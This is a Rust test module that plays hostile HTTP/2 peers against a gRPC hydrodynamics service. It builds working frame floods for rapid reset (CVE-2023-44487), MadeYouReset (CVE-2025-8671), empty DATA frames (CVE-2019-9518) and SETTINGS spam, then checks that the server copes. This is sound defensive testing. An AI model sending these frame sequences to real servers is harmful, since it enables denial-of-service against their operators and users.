//! Peers that mean harm, by hand: what was once an advisory about HTTP/2.

use std::time::Duration;

use fastrand::Rng;
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream};
use wade_wire::proto;

use crate::bundle::NAME;
use crate::http2::{DATA, END_STREAM, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, call, frame, message};
use crate::ledger::Ledger;

const EVALUATE: &str = "/wade.v1.Hydrodynamics/Evaluate";

/// Sends one of these for as long as it is read, and waits until the server has had enough of it.
pub async fn attack(stream: DuplexStream, chance: &mut Rng, ledger: &Ledger, name: &str) {
    let kind = chance.u32(0..4);
    ledger.note(&format!("{name} attacks by {kind}"));
    let (mut from, mut to) = tokio::io::split(stream);
    let reading = async {
        let mut piece = [0; 4096];
        while let Ok(1..) = from.read(&mut piece).await {}
    };
    let frames: Vec<Vec<u8>> = match kind {
        0 => empty_data(),
        1 => resets_by_the_server(),
        2 => resets_by_the_client(),
        _ => vec![frame(SETTINGS, 0, 0, &[]); 4000],
    };
    let sending = async {
        to.write_all(PREFACE).await?;
        to.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        for frame in frames {
            to.write_all(&frame).await?;
        }
        // nothing more comes, and nothing of it was ever asked for
        to.shutdown().await
    };
    let both = async { tokio::join!(reading, sending) };
    if tokio::time::timeout(Duration::from_secs(120), both).await.is_err() {
        ledger.breaks(format!("{name}: an attack by {kind} has no end"));
    }
}

/// CVE-2019-9518: frames of data that carry nothing and end nothing.
fn empty_data() -> Vec<Vec<u8>> {
    let begin = call(1, "/wade.v1.Hydrodynamics/Stream");
    [vec![begin], vec![frame(DATA, 0, 1, &[]); 4000]].concat()
}

/// CVE-2025-8671, MadeYouReset: complete calls, each followed by a fault for which the server itself resets the stream, so that it
/// counts as closed while its work goes on.
fn resets_by_the_server() -> Vec<Vec<u8>> {
    calls(|stream| match stream % 3 {
        0 => frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
        1 => frame(WINDOW_UPDATE, 0, stream, &(u32::MAX >> 1).to_be_bytes()),
        _ => frame(DATA, END_STREAM, stream, &[1]),
    })
}

/// CVE-2023-44487, rapid reset.
fn resets_by_the_client() -> Vec<Vec<u8>> {
    calls(|stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()))
}

fn calls(fault: impl Fn(u32) -> Vec<u8>) -> Vec<Vec<u8>> {
    let state = proto::State { depth_m: Some(0.2), ..proto::State::default() };
    let query = proto::EvaluateRequest { vehicle: NAME.into(), state: Some(state) }.encode_to_vec();
    let one = |stream| [call(stream, EVALUATE), message(stream, &query, true), fault(stream)].concat();
    (0..1000).map(|number| one(2 * number + 1)).collect()
}
